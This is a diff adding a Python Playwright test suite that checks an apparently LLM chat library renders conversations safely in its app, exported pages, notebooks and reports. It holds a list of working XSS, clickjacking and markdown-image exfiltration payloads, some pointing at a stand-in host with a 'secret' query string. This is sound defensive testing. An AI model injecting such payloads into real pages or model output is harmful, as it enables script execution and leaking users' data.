@@ -1,0 +1,148 @@
+"""Twenty-odd hostile strings, each in every slot that a model or a tool fills, wherever a conversation is shown:
+nothing runs, nothing loads, nothing is covered."""
+
+import httpx
+import pytest
+from playwright.sync_api import expect
+
+import ellmer_core as ec
+from ellmer_conformance.report import Report, Row
+from ellmer_conformance.report.html import page as report_page
+from ellmer_conformance.report.results import Play
+from ellmer_conformance.server.strict_server import StrictServer
+
+RUN = "window.ran=1"
+LAYER = "position:fixed;inset:0;opacity:0;z-index:9999"
+AWAY = "https://away.invalid/x.png?q=secret"
+HOSTILE = (
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f'<img src="{AWAY}">',
+    f"![x]({AWAY})",
+    f"![x][1]\n\n[1]: {AWAY}",
+    f"[![x]({AWAY})](javascript:{RUN})",
+    f"[x](javascript:{RUN})",
+    f"<javascript:{RUN}>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f'<iframe src="{AWAY}"></iframe>',
+    f'<object data="{AWAY}"></object><embed src="{AWAY}">',
+    f'<svg onload="{RUN}"><use href="{AWAY}#x"/></svg>',
+    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
+    f'<style>@import "{AWAY}"; * {{ background: url({AWAY}) }}</style>',
+    f'<link rel="stylesheet" href="{AWAY}"><base href="{AWAY}">',
+    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
+    f'<form action="{AWAY}"><button style="{LAYER}">x</button></form>',
+    f'<span class="suggestion submit" style="{LAYER}">x</span>',
+    f'<content tool-call-id="x" style="{LAYER}">x</content>',
+    f'<p>\n<https:/class=suggestion/style="{LAYER}">x',
+    f"- ```\n\n<div style='{LAYER}'>x</div>",
+    f"    ```\n<div style='{LAYER}'>x</div>",
+    f"{'`' * 8}\n<div style='{LAYER}'>x</div>\n",
+    f"</code></pre></textarea></title></script><script>{RUN}</script>",
+    f"\"'><img src=x onerror={RUN}>",
+    f'<video poster="{AWAY}" src="{AWAY}" autoplay></video><audio src="{AWAY}" autoplay></audio>',
+    f"<details open ontoggle={RUN}>x</details><input autofocus onfocus={RUN}>",
+)
+
+
+def turns():
+    """A conversation that says each string in every slot."""
+    contents, results = [], []
+    for number, text in enumerate(HOSTILE):
+        request = ec.ContentToolRequest(f"c{number}{text}", text, {"a": text, text: 1, "_intent": text})
+        broken = ec.ContentToolRequest(f"b{number}", text, raw=text, problem=text)
+        display = {"title": text, "label": text, "value_preview": text, "markdown": text, "open": True}
+        contents += [ec.ContentText(text), ec.ContentThinking(text), request, broken]
+        results += [ec.ContentToolResult(text, extra={"display": display}, request=request),
+                    ec.ContentToolResult(error=text, request=broken)]  # fmt: skip
+        for value in (text, {"a": text}, [ec.ContentPDF("application/pdf", "JVBERi0xLjQK", text)],
+                      ec.ContentImageRemote(AWAY), ec.ContentImageInline(text, text)):  # fmt: skip
+            asked = ec.ContentToolRequest(f"d{number}{len(contents)}", "look", {"a": text})
+            contents.append(asked)
+            results.append(ec.ContentToolResult(value, extra={"display": {"open": True}}, request=asked))
+    user = ec.UserTurn(
+        [*map(ec.ContentText, HOSTILE), ec.ContentPDF("application/pdf", "JVBERi0xLjQK", HOSTILE[1])]
+    )
+    return [user, ec.AssistantTurn(contents), ec.UserTurn(results), ec.AssistantTurn("The end.")]
+
+
+@pytest.fixture
+def chat():
+    chat = ec.chat_anthropic(api_key="none", model="m")
+    chat.set_turns(turns())
+    return chat
+
+
+@pytest.fixture
+def guarded(page):
+    """A page that knows where it went, and afterwards that nothing ran, loaded, or lies above it."""
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: asked.append(dialog.message))
+    yield page
+    page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true })")
+    home = "/".join(page.url.split("/")[:3]) if page.url.startswith("http") else page.url
+    assert [url for url in asked if not url.startswith(("data:", home))] == []
+    assert page.evaluate("window.ran") is None
+    layers = "[...document.querySelectorAll('[style]')].filter(e => e.style.position === 'fixed' && e.style.opacity === '0')"
+    assert page.evaluate(f"{layers}.map(e => e.outerHTML)") == []
+    assert page.locator("iframe, object, embed, video, form[action]").count() == 0
+
+
+def test_in_the_app(guarded, served, chat):
+    guarded.goto(served(ec.chat_app(chat)))
+    expect(guarded.get_by_role("log").get_by_text("The end.")).to_be_visible()
+    guarded.wait_for_load_state("networkidle")
+
+
+def test_in_an_exported_page(guarded, chat, tmp_path):
+    guarded.goto(ec.export(chat, tmp_path / "chat.html", title=HOSTILE[0]).as_uri())
+    expect(guarded.get_by_text("The end.")).to_be_visible()
+
+
+def test_in_a_notebook(guarded, chat):
+    guarded.set_content(f"<title>Notebook</title><main>{chat._repr_html_()}</main>")
+    expect(guarded.get_by_text("The end.")).to_be_visible()
+
+
+def test_in_a_report(guarded, tmp_path):
+    rows, plays = [], []
+    for text in HOSTILE:
+        place = (text, "openai-chat", text, text, "sync")
+        plays.append(Play(*place, cassette=text, transcript=text))
+        rows.append(
+            Row(
+                *place,
+                text,
+                "MUST",
+                "reject",
+                "fail",
+                1,
+                text,
+                text,
+                text,
+                excerpt=text,
+                reason=text,
+                issue=text,
+            )
+        )
+    report = Report(rows, plays, transcripts={text: text for text in HOSTILE}, problems=list(HOSTILE),
+                    tool={"name": HOSTILE[0], "version": HOSTILE[1]}, requirements=HOSTILE[2],
+                    skipped=[{"adapter": t, "wire": t, "case": t, "reason": t} for t in HOSTILE])  # fmt: skip
+    (tmp_path / "index.html").write_text(report_page(report, HOSTILE[0]), "utf-8")
+    guarded.goto((tmp_path / "index.html").as_uri())
+    guarded.evaluate(
+        "document.querySelectorAll('.failure').forEach(b => { b.click(); document.getElementById('detail').close(); })"
+    )
+    expect(guarded.locator("#detail-body")).to_contain_text("position:fixed")
+
+
+def test_in_the_page_of_the_strict_server(guarded):
+    with StrictServer(mode="observe") as server:
+        guarded.goto(server.origin)
+        for text in HOSTILE:
+            body = {"model": text, "messages": [{"role": "tool", "tool_call_id": text, "content": text}]}
+            httpx.post(
+                f"{server.origin}/v1/chat/completions", json=body, headers={"authorization": "Bearer k"}
+            )
+        expect(guarded.get_by_text("POST /v1/chat/completions")).to_have_count(len(HOSTILE))
